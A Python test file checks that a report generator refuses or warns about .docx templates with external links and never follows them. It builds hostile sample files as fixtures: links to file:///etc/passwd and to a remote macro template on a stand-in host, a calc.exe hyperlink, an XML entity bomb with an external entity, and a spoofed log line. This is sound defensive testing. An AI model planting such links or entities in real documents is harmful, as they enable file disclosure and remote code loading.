"""Nothing from a template or a .docx reaches out (issue 18, first item): a template with links Word or
LibreOffice would follow is refused by check, verify and text warn of them without following them,
and LibreOffice converts a copy without them, in a profile that loads no linked content."""
from __future__ import annotations

import io
import shutil
import socket
import zipfile
from pathlib import Path

import pytest
from paths import ROOT

FACTS = ROOT / "inputs" / "yangxi-2023.yaml"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>')


def rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}{kind}" Target="{target}"{mode}/>'


def with_parts(source: Path, out: Path, added: dict[str, str] | None = None, rels: dict[str, str] | None = None,
               body: str = "") -> Path:
    """`source` with parts added, relationships appended to existing .rels parts, and XML put at the start
    of the body — what someone does to a county template with zipfile."""
    added, rels = added or {}, rels or {}
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename in rels:
                data = data.replace(b"</Relationships>", rels[info.filename].encode() + b"</Relationships>")
            if info.filename == "word/document.xml" and body:
                data = data.replace(b"<w:body>", b"<w:body>" + body.encode(), 1)
            z.writestr(info, data)
        for name, text in added.items():
            z.writestr(name, text)
    return out


def use_template(workdir: Path, template: Path) -> Path:
    path = workdir / "inputs" / "yangxi-2023.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "rubric: yangxi-2023", f"rubric: yangxi-2023\ntemplate: {template.name}", 1), encoding="utf-8")
    return path


LINKED_IMAGE = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
                'wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="90" name="图片 90"/>'
                '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
                'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.'
                'openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="90" name="a.png"/><pic:cNvPicPr/>'
                '</pic:nvPicPr><pic:blipFill><a:blip r:link="rId90"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
                '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect">'
                '<a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
DOC_RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"

CASES = {
    "a linked image (a local file)": dict(rels={DOC_RELS: rel("rId90", "image", "file:///etc/passwd")}, body=LINKED_IMAGE),
    "a linked image (a URL)": dict(rels={DOC_RELS: rel("rId90", "image", "http://198.51.100.7/t.png")}, body=LINKED_IMAGE),
    "an attached template": dict(added={SETTINGS_RELS: RELS.format(rel("rId1", "attachedTemplate",
                                                                        "https://198.51.100.7/宏.dotm"))}),
    "an image linked from a footer": dict(added={"word/_rels/footer1.xml.rels": RELS.format(
        rel("rId1", "image", "\\\\server\\share\\logo.png"))}),
    "an OLE object linked from the numbering": dict(added={"word/_rels/numbering.xml.rels": RELS.format(
        rel("rId1", "oleObject", "file:///C:/数据/表.xlsx"))}),
    "a sub-document given as a URL, not marked external": dict(rels={DOC_RELS: rel("rId91", "subDocument",
                                                                                    "https://198.51.100.7/子.docx",
                                                                                    external=False)}),
    "an INCLUDEPICTURE field split over two runs": dict(body=(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText>'
        '</w:r><w:r><w:instrText xml:space="preserve">PICTURE "http://198.51.100.7/t.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')),
}
SHOWN = {   # (part, target) each finding must name
    "a linked image (a local file)": (DOC_RELS, "file:///etc/passwd"),
    "a linked image (a URL)": (DOC_RELS, "http://198.51.100.7/t.png"),
    "an attached template": (SETTINGS_RELS, "https://198.51.100.7/宏.dotm"),
    "an image linked from a footer": ("word/_rels/footer1.xml.rels", "\\\\server\\share\\logo.png"),
    "an OLE object linked from the numbering": ("word/_rels/numbering.xml.rels", "file:///C:/数据/表.xlsx"),
    "a sub-document given as a URL, not marked external": (DOC_RELS, "https://198.51.100.7/子.docx"),
    "an INCLUDEPICTURE field split over two runs": ("word/document.xml", 'INCLUDEPICTURE "http://198.51.100.7/t.png" \\d'),
}


@pytest.mark.parametrize("case", list(CASES))
def test_a_template_that_links_out_is_refused_naming_the_part_and_the_target(workdir, run, case):
    """Each kind of link, in any part's relationships or a field, is an error naming where it is and what
    it points at; build writes nothing."""
    template = with_parts(ROOT / "templates" / "yangxi.docx", workdir / "inputs" / "县模板.docx", **CASES[case])
    facts = use_template(workdir, template)
    part, target = SHOWN[case]
    for _ in range(2):      # the second run has the template's sources cached: the refusal still holds
        result = run("check", str(facts))
        assert result.exit_code == 1, result.output
        assert f"[TEMPLATE-EXTERNAL] 模板的 {part} 中有指向文件之外的" in result.output
        assert f"“{target}”" in result.output
    out = workdir / "out"
    result = run("build", str(facts), "-o", str(out))
    assert result.exit_code == 1 and "[TEMPLATE-EXTERNAL]" in result.output
    assert not out.exists() or not any(out.iterdir())


def test_the_shipped_template_and_one_with_a_web_hyperlink_pass(workdir, run):
    """The clean twins: the shipped template, and the same with an ordinary http(s) hyperlink in its text
    (a reader follows it only by clicking; reports cite documents online)."""
    template = with_parts(ROOT / "templates" / "yangxi.docx", workdir / "inputs" / "县模板.docx",
                          rels={DOC_RELS: rel("rId95", "hyperlink", "https://www.mof.gov.cn/")},
                          body='<w:p><w:hyperlink r:id="rId95"><w:r><w:t>财政部</w:t></w:r></w:hyperlink></w:p>')
    facts = use_template(workdir, template)
    result = run("check", str(facts))
    assert result.exit_code == 0 and "TEMPLATE-EXTERNAL" not in result.output, result.output
    assert run("build", str(facts), "-o", str(workdir / "out")).exit_code == 0
    result = run("check", str(FACTS))
    assert result.exit_code == 0 and "TEMPLATE-EXTERNAL" not in result.output


def test_a_hyperlink_to_a_file_or_a_share_is_refused(workdir, run):
    template = with_parts(ROOT / "templates" / "yangxi.docx", workdir / "inputs" / "县模板.docx",
                          rels={DOC_RELS: rel("rId95", "hyperlink", "file:///C:/Windows/System32/calc.exe")})
    result = run("check", str(use_template(workdir, template)))
    assert result.exit_code == 1 and "超链接：“file:///C:/Windows/System32/calc.exe”" in result.output


def test_many_links_and_a_long_target_stay_short(workdir, run):
    """A target is one line of at most 100 characters; past five links the rest are counted."""
    long = "http://198.51.100.7/\n[TEMPLATE-OK] 伪造的一行" + "a" * 3000
    links = "".join(rel(f"rId{900 + i}", "image", long if i == 0 else f"http://198.51.100.7/{i}.png") for i in range(30))
    template = with_parts(ROOT / "templates" / "yangxi.docx", workdir / "inputs" / "县模板.docx",
                          rels={DOC_RELS: links.replace("\n", "&#10;")})
    result = run("check", str(use_template(workdir, template)))
    assert result.exit_code == 1
    lines = [line for line in result.output.splitlines() if "TEMPLATE-EXTERNAL" in line]
    assert len(lines) == 6 and any("还有 25 处指向文件之外的链接（共 30 处）" in line for line in lines)
    assert "“http://198.51.100.7/?[TEMPLATE-OK] 伪造的一行aaa" in result.output
    assert max(len(line) for line in lines) < 400
    assert not any(line.startswith("[TEMPLATE-OK]") for line in result.output.splitlines())


def test_a_relationships_part_with_a_dtd_is_not_a_docx(workdir, run):
    """Entities are never declared, so none expand or fetch: a .rels with a DTD is refused as it stands."""
    bomb = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c SYSTEM "http://198.51.100.7/x">]>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&b;&c;</Relationships>')
    template = with_parts(ROOT / "templates" / "yangxi.docx", workdir / "inputs" / "县模板.docx",
                          added={SETTINGS_RELS: bomb})
    result = run("check", str(use_template(workdir, template)))
    assert result.exit_code == 1 and "[TEMPLATE-INVALID]" in result.output and "内部错误" not in result.output


# ---- a report a user edited: verify and text read its text only, and say it links out ----------------

@pytest.fixture
def listening():
    """A port on this machine that records whether anything connected to it."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen(5)
        s.settimeout(0.3)
        yield s


def connected(s: socket.socket) -> bool:
    try:
        conn, _ = s.accept()
    except (TimeoutError, BlockingIOError):
        return False
    conn.close()
    return True


def test_verify_and_text_warn_of_links_in_an_edited_report_and_follow_none(tmp_path, run, listening):
    assert run("build", str(FACTS), "-o", str(tmp_path)).exit_code == 0
    url = f"http://127.0.0.1:{listening.getsockname()[1]}/t.png"
    edited = with_parts(tmp_path / "yangxi-2023.docx", tmp_path / "改过的.docx", body=LINKED_IMAGE,
                        rels={DOC_RELS: rel("rId90", "image", url)},
                        added={SETTINGS_RELS: RELS.format(rel("rId1", "attachedTemplate", "file:///srv/宏.dotm"))})
    result = run("verify", str(edited), str(FACTS))
    assert result.exit_code == 0, result.output           # the figures and the text are those of the facts
    assert f"警告 [VERIFY-EXTERNAL] {DOC_RELS} 中有指向文件之外的链接的图片：“{url}”" in result.output
    assert f"[VERIFY-EXTERNAL] {SETTINGS_RELS} 中有指向文件之外的附加模板：“file:///srv/宏.dotm”" in result.output
    assert "完全一致。另有 2 处外部链接" in result.output
    result = run("text", str(edited))
    assert result.exit_code == 0 and "| 合计 |" in result.stdout
    assert "外部" not in result.stdout           # git diff shows the text alone; the warning is on stderr
    assert f"注意：{edited}：{DOC_RELS} 中有指向文件之外的链接的图片：“{url}”" in result.output
    assert "（共 2 处）" in result.output
    assert not connected(listening)


def test_verify_says_when_it_cannot_tell_and_reads_the_text_all_the_same(tmp_path, run):
    """A .rels with a DTD is not parsed for links (nothing expands): the text is still compared, and
    the warning says the links could not be checked."""
    assert run("build", str(FACTS), "-o", str(tmp_path)).exit_code == 0
    edited = with_parts(tmp_path / "yangxi-2023.docx", tmp_path / "改过的.docx", added={SETTINGS_RELS: (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY c SYSTEM "http://198.51.100.7/x">]>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&c;</Relationships>')})
    result = run("verify", str(edited), str(FACTS))
    assert result.exit_code == 0 and "[VERIFY-EXTERNAL] 无法检查这份报告中有没有外部链接" in result.output
    assert "完全一致" in result.output


def test_verify_of_a_report_without_links_says_nothing_of_them(tmp_path, run):
    assert run("build", str(FACTS), "-o", str(tmp_path)).exit_code == 0
    result = run("verify", str(tmp_path / "yangxi-2023.docx"), str(FACTS))
    assert result.exit_code == 0 and "VERIFY-EXTERNAL" not in result.output and "外部链接" not in result.output
    result = run("text", str(tmp_path / "yangxi-2023.docx"))
    assert result.exit_code == 0 and "注意" not in result.output


# ---- the copy LibreOffice converts, and the LibreOffice that converts it ----------------------------

def test_the_copy_for_libreoffice_keeps_no_link_out(tmp_path):
    """Every relationship that points out is taken out of the copy (an http hyperlink stays, so the
    PDF's link works); the parts inside the file are untouched."""
    from generator.render.pdf import for_libreoffice
    from generator.wordml.links import external_links

    assert run_build(tmp_path).exists()
    docx = with_parts(tmp_path / "yangxi-2023.docx", tmp_path / "linked.docx", body=LINKED_IMAGE,
                      rels={DOC_RELS: rel("rId90", "image", "file:///etc/passwd")
                            + rel("rId95", "hyperlink", "https://www.mof.gov.cn/")},
                      added={SETTINGS_RELS: RELS.format(rel("rId1", "attachedTemplate", "https://198.51.100.7/x.dotm"))})
    copy = zipfile.ZipFile(io.BytesIO(for_libreoffice(docx.read_bytes())))
    assert external_links(copy).total == 0
    rels = copy.read(DOC_RELS).decode()
    assert "file:///etc/passwd" not in rels and "https://www.mof.gov.cn/" in rels and 'Target="styles.xml"' in rels
    assert "x.dotm" not in copy.read(SETTINGS_RELS).decode()


def run_build(tmp_path: Path) -> Path:
    from click.testing import CliRunner

    from generator.cli import main
    CliRunner().invoke(main, ["build", str(FACTS), "-o", str(tmp_path)], catch_exceptions=False)
    return tmp_path / "yangxi-2023.docx"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed (.ci/run installs it)")
@pytest.mark.parametrize("copy_kept_links", [False, True])
def test_libreoffice_fetches_nothing_while_converting(tmp_path, listening, monkeypatch, copy_kept_links):
    """No linked picture reaches the PDF from a local file or a URL, and nothing connects to the URL: with
    the links taken out of the copy, and (the profile alone) with them left in."""
    from generator.render import pdf

    if copy_kept_links:
        monkeypatch.setattr(pdf, "for_libreoffice", lambda data: data)
    picture = tmp_path / "本机的图片.png"
    picture.write_bytes(_png())
    url = f"http://127.0.0.1:{listening.getsockname()[1]}/t.png"
    built = run_build(tmp_path / "built")
    pairs = []
    for name, target in (("file", picture.as_uri()), ("url", url)):
        docx = with_parts(built, tmp_path / f"{name}.docx", body=LINKED_IMAGE, rels={DOC_RELS: rel("rId90", "image", target)})
        pairs.append((docx, tmp_path / f"{name}.pdf"))
    assert pdf.to_pdfs(pairs) == {str(target): None for _, target in pairs}
    for _, target in pairs:
        assert b"/Subtype/Image" not in target.read_bytes().replace(b" ", b"")
    assert not connected(listening)


def _png(size: int = 64) -> bytes:
    import struct
    import zlib
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * size for _ in range(size))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
